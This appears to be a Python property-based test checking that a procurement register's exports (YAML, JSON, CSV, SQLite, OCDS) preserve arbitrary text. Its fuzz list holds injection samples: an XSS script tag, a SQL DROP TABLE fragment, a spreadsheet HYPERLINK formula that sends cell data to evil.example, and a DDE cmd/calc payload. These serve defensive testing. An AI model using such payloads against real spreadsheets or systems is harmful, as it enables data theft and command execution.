"""Property test: any small, valid register survives every export unchanged.

Hypothesis writes registers of a buyer, a supplier, a tender, an award with up to three commitments, outcomes for
them and a measure, with arbitrary text (any Unicode: quotes, new lines, ``<``, ``&``, emoji, YAML look-alikes)
wherever the schema allows free text. Each register is written as YAML with the demonstration generator's emitter,
validated, exported with :func:`site_builder.export.export_all`, and every download is read back and compared with
the data the test generated: the expected values are worked out here, never taken from the exporters.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import sys
import warnings
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from conftest import REPO_ROOT
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from ocdsmerge.exceptions import OCDSMergeWarning
from test_export_ocds_ids import iter_duplicate_ids

from site_builder.config import load_config
from site_builder.export import export_all
from site_builder.load import parse_yaml
from site_builder.model import build_model
from site_builder.validate import validate_register

sys.path.insert(0, str(REPO_ROOT / "tests" / "benchmarks"))
from generate import emit_yaml

FOLDERS = {"organisation": "organisations", "tender": "tenders", "award": "awards", "outcome": "outcomes",
           "measure": "measures"}
SITE_URL = "https://register.example.org/"
MKDOCS_YML = f"""site_name: Property register
site_url: {SITE_URL}
plugins:
  - procure:
      ocid_prefix: ocds-prop01
      as_of: 2026-06-30
      publisher:
        name: Property Council
        scheme: GB-LAE
        uid: PRP
        uri: https://www.property.example
      external_schemes: [national-toms]
"""
CODELISTS: dict[str, Any] = json.loads((REPO_ROOT / "schemas" / "codelists.schema.json").read_text("utf-8"))["$defs"]


#: justification grounds that fit any legal basis (pa23-* and pcr2015-* ones must match the procedure's law)
LAWLESS_GROUNDS = st.sampled_from(["below-threshold", "framework-call-off", "other"])


def codes(name: str) -> st.SearchStrategy[str]:
    return st.sampled_from(CODELISTS[name]["enum"])


# --- text and values -------------------------------------------------------------------------------------------

#: fragments that break naive HTML, CSV, YAML, JSON or SQL handling, mixed with arbitrary Unicode
AWKWARD = ['<script>alert("x")</script>', "Tom & Jerry's <b>bold</b>", 'a "quoted" word', "line one\nline two",
           "😀🚀🇬🇧", "{{ jinja }} {% raw %}", "# not a comment", "- not a list", "key: value", "yes", "null", "~",
           "0o17", "1e3", "0x1F", "2025-01-01", " padded ", "tab\there", "crlf\r\nend", "“smart” ‘quotes’ — dash",
           "comma, semicolon; pipe|", "back\\slash", "'; DROP TABLE awards; --", "&amp; &lt;", "\u2028\u2029\x85",
           "\u00a0nbsp", "RTL \u202eevil", "zero\u200bwidth",
           '=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+44 20", "-2+3"]
_ANY_CHAR = st.characters(codec="utf-8")  # every code point a UTF-8 file can hold (no lone surrogates)
# control characters but tab and new line, U+FFFE/U+FFFF, and invisible characters (refused in names; bidi
# overrides everywhere): a valid register cannot hold them, so the generator leaves them out
_REFUSED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff\u200b-\u200f\u2060-\u2064\ufeff\u061c\u00ad"
                      "\u180e\u202a-\u202e\u2066-\u2069]")


def text(min_size: int = 1, max_size: int = 60) -> st.SearchStrategy[str]:
    pieces = st.lists(st.one_of(st.text(_ANY_CHAR, max_size=10), st.sampled_from(AWKWARD)), min_size=1, max_size=4)

    def fit(value: str) -> str:
        value = _REFUSED.sub("", value)  # what the validator refuses in text (tested in tests/cases/invalid/)
        if len(value) < min_size:
            value += "abc"[: min_size - len(value)]
        return value[:max_size]
    return pieces.map("".join).map(fit)


def whole(x: int | float) -> int | float:
    return int(x) if isinstance(x, float) and x.is_integer() else x


def number(max_value: float) -> st.SearchStrategy[int | float]:
    """A non-negative number; whole floats become ints, as a person would write them (5, not 5.0)."""
    floats = st.floats(min_value=0, max_value=max_value, allow_nan=False, allow_infinity=False)
    return st.one_of(st.integers(0, int(max_value)), floats.map(whole))


IDS = st.from_regex(r"\A[A-Za-z0-9]{1,6}(?:[-_][A-Za-z0-9]{1,6}){0,2}\Z")
DATES = st.dates(min_value=date(2020, 1, 1), max_value=date(2030, 12, 31))
URLS = st.from_regex(r"\Ahttps://www\.[a-z]{1,10}\.example/[a-z0-9-]{0,12}\Z")


@st.composite
def periods(draw: st.DrawFn, inside: tuple[date, date] | None = None) -> dict[str, str]:
    low, high = inside or (date(2020, 1, 1), date(2030, 12, 31))
    a, b = sorted(draw(st.dates(min_value=low, max_value=high)) for _ in range(2))
    return {"start_date": a.isoformat(), "end_date": b.isoformat()}


def optional(record: dict[str, Any], draw: st.DrawFn, **fields: st.SearchStrategy[Any]) -> None:
    """Add each optional field or leave it out, so absent fields are exercised too."""
    for name, strategy in fields.items():
        if draw(st.booleans()):
            record[name] = draw(strategy)


# --- records -----------------------------------------------------------------------------------------------------

@st.composite
def registers(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
    """type → records of one small register that the validator should accept."""
    n_commitments = draw(st.integers(0, 3))
    # record ids are unique across the register ignoring case (the validator's rule): drawn together
    ids = draw(st.lists(IDS, min_size=11, max_size=11, unique_by=str.lower))
    buyer_id, supplier_id, tender_id, award_id, measure_id = ids[:5]
    outcome_ids = ids[5:]

    buyer: dict[str, Any] = {"id": buyer_id, "name": draw(text(2, 300)), "roles": ["buyer"]}
    optional(buyer, draw, legal_name=text(2, 300), organisation_type=codes("organisation_type"),
             identifier=st.fixed_dictionaries({"scheme": codes("identifier_scheme"),
                                               "id": st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9 ./-]{0,12}\Z")}),
             address=st.fixed_dictionaries({"town": text(1, 100)}, optional={"street": text(1, 300)}),
             website=URLS, description=text())
    supplier: dict[str, Any] = {"id": supplier_id, "name": draw(text(2, 300)),
                                "roles": draw(st.sampled_from([["supplier"], ["supplier", "buyer"]]))}
    optional(supplier, draw, is_sme=st.booleans(), is_vcse=st.booleans(), description=text(),
             local_authority_area=st.fixed_dictionaries({"name": text(1, 200)}))

    measure: dict[str, Any] = {"id": measure_id, "scheme": "local", "scheme_version": draw(text(1, 50)),
                               "code": draw(st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9 ._-]{0,10}\Z")),
                               "title": draw(text(3, 300)), "unit": draw(codes("sv_unit")),
                               "theme": draw(codes("sv_theme")),
                               "sdgs": draw(st.lists(st.integers(1, 17), min_size=1, max_size=3, unique=True))}
    optional(measure, draw, description=text(), counting_guidance=text(),
             proxy=st.fixed_dictionaries({"value_gbp_per_unit": number(1e6), "source": text(1, 300),
                                          "version": text(1, 50)}))

    tender: dict[str, Any] = {
        "id": tender_id, "title": draw(text(3, 300)), "buyer": buyer_id, "status": draw(codes("tender_status")),
        "procurement_method": draw(codes("procurement_method")), "main_category": draw(codes("procurement_category")),
        "cpv": draw(st.lists(st.from_regex(r"\A[0-9]{8}\Z"), min_size=1, max_size=3, unique=True)),
        "published": draw(DATES).isoformat()}
    if tender["procurement_method"] in ("direct", "limited"):  # the validator requires the reason
        tender["justification"] = {"ground": draw(LAWLESS_GROUNDS), "explanation": draw(text())}
    optional(tender, draw, description=text(), procurement_method_details=text(1, 300),
             value=st.fixed_dictionaries({"amount": number(1e15), "currency": codes("currency")}),
             tender_period=periods(), social_value_themes=st.lists(codes("sv_theme"), max_size=3, unique=True),
             documents=st.lists(st.fixed_dictionaries({"title": text(3, 300), "url": URLS}), min_size=1, max_size=2),
             notices=st.lists(st.fixed_dictionaries({"type": codes("notice_type"), "id": text(1, 200)}),
                              min_size=1, max_size=2))

    contract = draw(st.one_of(st.none(), periods()))
    award: dict[str, Any] = {
        "id": award_id, "buyer": buyer_id, "title": draw(text(3, 300)), "status": draw(codes("award_status")),
        "date": draw(DATES).isoformat(),
        "value": {"amount": draw(number(1e15)), "currency": draw(codes("currency"))}, "suppliers": [supplier_id]}
    if draw(st.booleans()):
        award["tender"] = tender_id
    else:  # an award without a tender states its procedure (and, direct or limited, why)
        award["procedure"] = {"method": draw(codes("procurement_method"))}
        if award["procedure"]["method"] in ("direct", "limited"):
            award["procedure"]["justification"] = {"ground": draw(LAWLESS_GROUNDS), "explanation": draw(text())}
    if contract:
        award["contract_period"] = contract
    assessments = st.lists(st.fixed_dictionaries({"period": periods(), "rating": codes("uk9_rating")},
                                                 optional={"narrative": text()}), min_size=1, max_size=2)
    # changes of scope only: value and end-date changes must chain exactly (tests/test_contracts.py checks those)
    changes = st.lists(st.fixed_dictionaries({"id": IDS, "date": st.just(award["date"]), "kinds": st.just(["scope"]),
                                              "description": text(), "reason": text()},
                                             optional={"legal_ground": text(1, 300)}),
                       min_size=1, max_size=2, unique_by=lambda c: c["id"].lower())
    optional(award, draw, description=text(), number_of_tenderers=st.integers(0, 50), changes=changes,
             kpis=st.lists(st.fixed_dictionaries({"id": IDS, "title": text(3, 300)},
                                                 optional={"target": text(1, 300), "assessments": assessments}),
                           min_size=1, max_size=2, unique_by=lambda k: k["id"].lower()),
             evaluation_weights=st.lists(st.fixed_dictionaries({"name": text(1, 300), "kind": codes("criterion_kind"),
                                                                "weight_pct": number(100)}), min_size=1, max_size=3))
    contract_dates = (date.fromisoformat(contract["start_date"]), date.fromisoformat(contract["end_date"])) \
        if contract else None
    commitments, outcomes = [], []
    commitment_ids = draw(st.lists(IDS, min_size=n_commitments, max_size=n_commitments, unique_by=str.lower))
    for cid in commitment_ids:
        local = draw(st.booleans())
        unit = measure["unit"] if local else draw(codes("sv_unit"))
        commitment: dict[str, Any] = {
            "id": cid,
            "measure": {"scheme": "local", "scheme_version": measure["scheme_version"], "code": measure["code"]}
            if local else {"scheme": "national-toms", "scheme_version": draw(text(1, 50)),
                           "code": draw(st.from_regex(r"\A[A-Za-z0-9]{1,8}\Z"))},
            "theme": draw(codes("sv_theme")),
            "sdgs": draw(st.lists(st.integers(1, 17), min_size=1, max_size=2, unique=True)),
            "description": draw(text()),
            "target": {"quantity": draw(number(1e6)), "unit": unit, "basis": draw(codes("sv_basis"))},
            "reporting_frequency": draw(codes("reporting_frequency"))}
        optional(commitment, draw, beneficiary_group=text(1, 300), community_involvement=text(),
                 status=codes("commitment_status"))
        if draw(st.booleans()):
            commitment["valuation"] = {"proxy_value_gbp_per_unit": draw(number(1e5)), "proxy_source": draw(text(1, 300)),
                                       "proxy_version": draw(text(1, 50))}
        commitments.append(commitment)
        # up to two reports per commitment
        for _ in range(draw(st.integers(0, 2))):
            delivered = draw(number(1e4))
            assurance = draw(codes("assurance"))
            outcome: dict[str, Any] = {
                "id": outcome_ids.pop(), "award": award_id, "commitment": cid, "period": draw(periods(contract_dates)),
                "reported_on": draw(DATES).isoformat(),
                "delivered": {"quantity": delivered, "unit": unit}, "assurance": assurance}
            if assurance != "self-reported" or draw(st.booleans()):
                outcome["evidence"] = [{"type": draw(codes("evidence_type")), "title": draw(text(3, 300))}]
            optional(outcome, draw, narrative=text(), stakeholder_voice=text(), variance_explanation=text(),
                     rating=codes("uk9_rating"), uk9_notice_id=text(1, 100))
            if draw(st.booleans()):
                outcome["reported_by"] = supplier_id
            outcomes.append(outcome)
    # running totals: written in period order so they never decrease
    by_commitment: dict[str, list[dict[str, Any]]] = {}
    for outcome in outcomes:
        by_commitment.setdefault(outcome["commitment"], []).append(outcome)
    for reports in by_commitment.values():
        reports.sort(key=lambda o: (o["period"]["start_date"], o["period"]["end_date"]))
        running: int | float = 0
        for report in reports:
            running += report["delivered"]["quantity"]
            if draw(st.booleans()):
                report["delivered"]["cumulative_to_date"] = whole(running)
    if commitments:
        award["commitments"] = commitments
    return {"organisation": [buyer, supplier], "tender": [tender], "award": [award], "outcome": outcomes,
            "measure": [measure]}


# --- writing, exporting and reading back -------------------------------------------------------------------------

def write_register(root: Path, register: dict[str, list[dict[str, Any]]]) -> dict[tuple[str, str], bytes]:
    """The register as YAML files under ``root``; returns each file's bytes by (type, id)."""
    if root.exists():
        shutil.rmtree(root)
    shutil.copytree(REPO_ROOT / "schemas", root / "schemas")
    (root / "mkdocs.yml").write_text(MKDOCS_YML, "utf-8")
    written = {}
    for rtype, records in register.items():
        folder = root / "records" / FOLDERS[rtype]
        folder.mkdir(parents=True, exist_ok=True)
        for record in records:
            source = emit_yaml(record).encode("utf-8")
            (folder / f"{record['id']}.yaml").write_bytes(source)
            written[(rtype, record["id"])] = source
    return written


def same(a: Any, b: Any) -> bool:
    """Equal as data AND in kind (json.dumps tells 5 from 5.0 and True from 1, which == does not)."""
    return a == b and json.dumps(a, sort_keys=True) == json.dumps(b, sort_keys=True)


def flat_columns(record: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    """How one record or list item should look as a table row: nested objects joined with '_'."""
    flat: dict[str, Any] = {}
    for key, value in record.items():
        if isinstance(value, dict):
            flat.update(flat_columns(value, f"{prefix}{key}_"))
        else:
            flat[f"{prefix}{key}"] = value
    return flat


def csv_text(value: Any) -> str:
    """A value as a CSV cell: lists of codes joined with ';', lists of objects as compact JSON, true/false; text a
    spreadsheet would run as a formula (starting =, +, -, @, tab or carriage return) gets a leading '."""
    if isinstance(value, list):
        if value and isinstance(value[0], dict):
            return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        return defused(";".join(str(v) for v in value))
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return defused(value)
    return repr(value) if isinstance(value, float) else str(value)


def defused(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") and text else text


def sqlite_value(value: Any) -> Any:
    """A value as SQLite holds it: lists as JSON arrays, booleans as 0/1."""
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return int(value) if isinstance(value, bool) else value


#: columns worked out by the register rather than written in a record (checked by tests/test_export.py)
COMPUTED = {"page_url", "measure_id", "delivered_to_date", "pct_of_target", "delivery_status",
            "ocid",  # filled from the tender or the prefix when the record has none (issue 12)
            # issue 13: the procedure whichever record states it, the display status, figures after changes
            "procedure", "is_direct_award", "display_status", "current_value_amount", "current_value_currency",
            "current_end_date", "kpis_rated_inadequate"}
#: lists that have their own table rather than a column of the awards table
OWN_TABLES = {"award": {"commitments", "kpis", "evaluation_weights", "changes"}}


def expected_rows(register: dict[str, list[dict[str, Any]]]) -> dict[str, list[tuple[dict[str, Any], set[str]]]]:
    """table → [(the row's values by column, the columns that are keys)], in the order rows are written."""
    tables: dict[str, list[tuple[dict[str, Any], set[str]]]] = {}
    for rtype, records in register.items():
        skip = OWN_TABLES.get(rtype, set())
        tables[FOLDERS[rtype]] = [(flat_columns({k: v for k, v in r.items() if k not in skip}), {"id"})
                                  for r in sorted(records, key=lambda r: r["id"])]
    award = register["award"][0]
    tables["award_suppliers"] = [({"award_id": award["id"], "position": n, "organisation_id": s}, {"award_id", "position"})
                                 for n, s in enumerate(award["suppliers"], 1)]
    tables["commitments"] = [({"award_id": award["id"], **flat_columns(c)}, {"award_id", "id"})
                             for c in award.get("commitments", [])]
    tables["kpis"] = [({"award_id": award["id"], **flat_columns({f: v for f, v in k.items() if f != "assessments"})},
                       {"award_id", "id"}) for k in award.get("kpis", [])]
    tables["contract_changes"] = [({"award_id": award["id"], **flat_columns(c)}, {"award_id", "id"})
                                  for c in award.get("changes", [])]
    tables["kpi_assessments"] = [({"award_id": award["id"], "kpi_id": k["id"], "position": n, **flat_columns(a)},
                                  {"award_id", "kpi_id", "position"})
                                 for k in award.get("kpis", []) for n, a in enumerate(k.get("assessments", []), 1)]
    tables["evaluation_weights"] = [({"award_id": award["id"], "position": n, **flat_columns(w)}, {"award_id", "position"})
                                    for n, w in enumerate(award.get("evaluation_weights", []), 1)]
    return tables


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    raw = path.read_bytes()
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


# --- the property ------------------------------------------------------------------------------------------------

@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large])
@given(register=registers())
def test_valid_registers_survive_every_export_unchanged(tmp_path: Path, register: dict[str, list[dict[str, Any]]]) -> None:
    root = tmp_path / "register"
    written = write_register(root, register)
    for (rtype, rid), source in written.items():  # the emitter itself is not under test: it must give the data back
        record = next(r for r in register[rtype] if r["id"] == rid)
        assert same(parse_yaml(source)[0], record), source.decode("utf-8")

    config = load_config(root)
    result = validate_register(config, keep_data=True, use_cache=False)
    assume(result.ok)  # the strategy is built to be valid; anything else is not this test's subject
    reg = build_model(result.files, config)
    out = tmp_path / "data"
    if out.exists():
        shutil.rmtree(out)
    with warnings.catch_warnings():
        warnings.simplefilter("error", OCDSMergeWarning)  # a repeated OCDS id would drop data when compiling
        export_all(reg, out, page_urls=[])

    # raw YAML byte for byte; JSON and JSON Lines equal as data (and in kind)
    for (rtype, rid), source in written.items():
        record = next(r for r in register[rtype] if r["id"] == rid)
        assert (out / "records" / FOLDERS[rtype] / f"{rid}.yaml").read_bytes() == source
        assert same(json.loads((out / "records" / FOLDERS[rtype] / f"{rid}.json").read_bytes()), record)
    for rtype, records in register.items():
        lines = (out / "jsonl" / f"{FOLDERS[rtype]}.jsonl").read_text("utf-8").splitlines()
        assert same([json.loads(line) for line in lines], sorted(records, key=lambda r: r["id"]))
    with zipfile.ZipFile(out / "records.zip") as zf:
        for (rtype, rid), source in written.items():
            assert zf.read(f"records/{FOLDERS[rtype]}/{rid}.yaml") == source

    # CSV read back with the csv module, and SQLite queried directly, against the test's own flattening
    conn = sqlite3.connect(out / "register.sqlite")
    try:
        for table, rows in expected_rows(register).items():
            header, got = read_csv(out / "csv" / f"{table}.csv")
            assert len(got) == len(rows), table
            db_rows = conn.execute(f'SELECT * FROM "{table}" ORDER BY rowid').fetchall()
            db_columns = [d[1] for d in conn.execute(f'PRAGMA table_info("{table}")')]
            assert db_columns == header, table
            assert len(db_rows) == len(rows), table
            for (values, _keys), csv_row, db_row in zip(rows, got, db_rows, strict=True):
                db = dict(zip(db_columns, db_row, strict=True))
                for column, value in values.items():
                    assert column in header, (table, column)
                    assert csv_row[column] == csv_text(value), (table, column)
                    assert (db[column] == sqlite_value(value) and type(db[column]) is type(sqlite_value(value))) or (
                        isinstance(value, int) and not isinstance(value, bool) and db[column] == float(value)), (
                        table, column, db[column], value)  # REAL columns hold whole numbers as floats
                for column in set(header) - set(values) - COMPUTED:
                    if column.startswith(("flag_", "commitment_")) and table in ("awards", "tenders", "outcomes"):
                        continue  # integrity flags and the commitment's figures: computed, not written
                    assert csv_row[column] == "" and db[column] is None, (table, column)
                if "page_url" in csv_row:
                    assert csv_row["page_url"] == f"{SITE_URL}{table}/{values['id']}/"
    finally:
        conn.close()

    # OCDS: each record where it belongs, its text unchanged, no array repeating an id
    releases = json.loads((out / "ocds" / "release-package.json").read_bytes())["releases"]
    assert list(iter_duplicate_ids(releases)) == []
    records = json.loads((out / "ocds" / "record-package.json").read_bytes())["records"]
    assert list(iter_duplicate_ids(records)) == []
    by_id = {r["id"]: r for r in releases}
    tender, award = register["tender"][0], register["award"][0]
    tender_release = by_id[f"{tender['id']}-tender"]
    assert (tender_release["tender"]["id"], tender_release["tender"]["title"]) == (tender["id"], tender["title"])
    assert tender_release["tender"].get("description") == tender.get("description")
    assert tender_release["ocid"] == f"ocds-prop01-{tender['id']}"
    award_release = by_id[f"{award['id']}-award"]
    a = award_release["awards"][0]
    assert (a["id"], a["title"], a.get("description"), a["value"]) == (
        award["id"], award["title"], award.get("description"), award["value"])
    expected_ocid = f"ocds-prop01-{tender['id'] if award.get('tender') else award['id']}"
    assert award_release["ocid"] == expected_ocid
    assert [s["id"] for s in a["suppliers"]] == award["suppliers"]
    parties = {p["id"]: p for p in award_release["parties"]}
    assert parties[award["buyer"]]["name"] == register["organisation"][0]["name"]
    assert parties[award["suppliers"][0]]["name"] == register["organisation"][1]["name"]
    metrics = {m["id"]: m for m in a.get("agreedMetrics", [])}
    assert {cid: m["observations"][0]["measure"] for cid, m in metrics.items()} == {
        c["id"]: c["target"]["quantity"] for c in award.get("commitments", [])}
    for outcome in register["outcome"]:
        release = by_id[outcome["id"]]
        assert release["ocid"] == expected_ocid
        observation = release["contracts"][0]["implementation"]["metrics"][0]["observations"][0]
        assert (observation["id"], observation["measure"], observation.get("notes")) == (
            outcome["id"], outcome["delivered"]["quantity"], outcome.get("narrative"))
    by_ocid = {r["ocid"]: r for r in records}
    compiled = by_ocid[expected_ocid]["compiledRelease"]
    assert [x["id"] for x in compiled["awards"]] == [award["id"]]
    observed = {o["id"] for m in compiled.get("contracts", [{}])[0].get("implementation", {}).get("metrics", [])
                for o in m["observations"]}
    kpi_observations = set()  # issue 13: each KPI assessment is an observation "<KPI id>-<period start>"
    for kpi in award.get("kpis", []):
        seen: dict[str, int] = {}
        for a in sorted(kpi.get("assessments", []), key=lambda a: a["period"]["start_date"]):
            base = f"{kpi['id']}-{a['period']['start_date']}"
            seen[base] = seen.get(base, 0) + 1
            kpi_observations.add(base if seen[base] == 1 else f"{base}-{seen[base]}")
    assert observed == {o["id"] for o in register["outcome"]} | kpi_observations


def test_the_flattening_is_what_the_format_promises() -> None:
    """The test's own expectations, checked by hand on one small record."""
    record = {"id": "A", "value": {"amount": 5, "currency": "GBP"}, "cpv": ["1", "2"], "ok": True, "x": 0.5,
              "docs": [{"title": "é,\"", "url": "u"}]}
    flat = flat_columns(record)
    assert flat == {"id": "A", "value_amount": 5, "value_currency": "GBP", "cpv": ["1", "2"], "ok": True, "x": 0.5,
                    "docs": [{"title": "é,\"", "url": "u"}]}
    assert [csv_text(v) for v in flat.values()] == ["A", "5", "GBP", "1;2", "true", "0.5",
                                                    '[{"title":"é,\\"","url":"u"}]']
    assert [csv_text(v) for v in ("=1+1", "+44", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", "", ["=a", "b"])] == [
        "'=1+1", "'+44", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "'=a;b"]
    assert [sqlite_value(v) for v in flat.values()] == ["A", 5, "GBP", '["1","2"]', 1, 0.5,
                                                        '[{"title":"é,\\"","url":"u"}]']
    assert not same(5, 5.0) and same({"a": [1]}, {"a": [1]})


@pytest.mark.parametrize("text_value", ["<b>&amp;</b>", "line\nline", "\u2028", "😀", "yes", "0o17", " x "])
def test_awkward_text_is_written_and_read_back_by_the_emitter(text_value: str) -> None:
    assert parse_yaml(emit_yaml({"id": "A", "title": text_value}).encode("utf-8"))[0] == {"id": "A", "title": text_value}
